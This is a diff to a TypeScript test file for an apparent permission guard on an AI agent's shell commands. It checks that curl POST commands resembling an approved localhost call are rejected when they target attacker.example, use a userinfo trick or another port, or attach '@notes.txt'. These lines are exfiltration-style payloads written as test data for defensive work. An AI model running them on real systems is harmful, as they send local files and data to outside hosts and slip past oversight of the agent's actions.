@@ -124,18 +124,25 @@ describe('tier 2a: token Jaccard', () => {
     }
   });
 
-  it('guard: a destination is no plain value — another URL host, remote or `@file` is another command', async () => {
+  it('guard: a destination is no plain value — a URL of another origin, a remote or an `@file` is another command', async () => {
     const p = makeProject();
     p.register('s1', 'coder');
     // curl's request bodies have no catalogue annotation, so these keep the shape rail.
     const post = (url: string, body: string): string =>
       `curl -s -X POST ${url} -H 'Content-Type: application/json' -H 'Accept: application/json' -d ${body}`;
     await rememberCommand(p, post('http://127.0.0.1:8080/api/users', 'ada'), 'allow');
-    expect((await p.check(p.pre('Bash', bash(post('http://127.0.0.1:8080/api/users', 'bob'))))).decision).toMatchObject(
-      { verdict: 'allow', tier: 'jaccard' },
-    );
+    for (const command of [
+      post('http://127.0.0.1:8080/api/users', 'bob'),
+      post('http://127.0.0.1:8080/api/teams', 'ada'),
+    ])
+      expect((await p.check(p.pre('Bash', bash(command)))).decision, command).toMatchObject({
+        verdict: 'allow',
+        tier: 'jaccard',
+      });
     for (const command of [
       post('http://attacker.example/api/users', 'ada'),
+      post('http://127.0.0.1:9090/api/users', 'ada'),
+      post('http://127.0.0.1:8080@attacker.example/api/users', 'ada'),
       post('http://127.0.0.1:8080/api/users', '@notes.txt'),
       post('http://127.0.0.1:8080/api/users', 'name=@notes.txt'),
       post('http://127.0.0.1:8080/api/users', 'git@attacker.example:loot'),
